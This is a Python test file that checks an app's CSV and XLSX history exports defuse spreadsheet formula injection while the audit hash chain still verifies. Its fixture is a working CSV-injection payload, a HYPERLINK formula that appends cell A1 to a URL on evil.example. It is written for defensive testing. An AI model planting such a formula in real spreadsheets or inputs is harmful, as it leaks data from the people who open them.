"""Exports open safely in spreadsheets: text a spreadsheet would run as a formula is defused in
the CSV (a ``'`` in front), XLSX keeps it as text, and the hash chain, which covers the stored
values, still verifies. One reflection, rejected in May 2034 (local), a month no other test uses.
"""

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import openpyxl
from sqlmodel import Session, select

from reflections.actors import Actor
from reflections.lifecycle.service import EventInput, apply_event
from reflections.models import HistoryEvent, User
from reflections.models.enums import LifecycleEvent, Role
from reflections.oversight import audit, exports
from reflections.oversight.export_files import ExportFormat, defused
from reflections.platform import clock
from tests.lifecycle_helpers import new_reflection

START = datetime(2034, 5, 1, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
# What a citizen or anyone could type, each a formula to Excel, LibreOffice or Google Sheets.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_formulas_are_defused_in_csv_and_text_in_xlsx(session: Session) -> None:
    user = session.exec(select(User).where(User.username == "coordinator")).one()
    with clock.frozen_at(START + timedelta(days=3, hours=9)):
        reflection = new_reflection(session, "+84 905 777 888 gọi tôi")
        assert reflection.id is not None
        apply_event(
            session,
            reflection.id,
            LifecycleEvent.REJECT,
            Actor(Role.COORDINATOR, user_id=user.id),
            EventInput(reason=FORMULA),
        )
    period = exports.days(START.date(), (START + timedelta(days=30)).date())
    text = b"".join(exports.export_histories(session, period, ExportFormat.CSV)).decode()
    rows = [
        row
        for row in csv.DictReader(io.StringIO(text, newline=""))
        if row["tracking_code"] == reflection.tracking_code
    ]
    assert rows[1]["reason"] == "'" + FORMULA
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())

    book = openpyxl.load_workbook(
        io.BytesIO(b"".join(exports.export_histories(session, period, ExportFormat.XLSX)))
    )
    sheet = book.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)  # a string, never a formula

    # The stored value is unchanged, so the chain that covers it still verifies.
    stored = session.exec(
        select(HistoryEvent.reason).where(
            HistoryEvent.reflection_id == reflection.id, HistoryEvent.event == "reject"
        )
    ).one()
    assert stored == FORMULA
    assert audit.verify_reflection(session, reflection.id).problem_count == 0


def test_what_is_defused() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert defused(text) == "'" + text
    for value in ("Ổ gà", "1-2", "", None, -5, 3.5, "a=b"):
        assert defused(value) == value
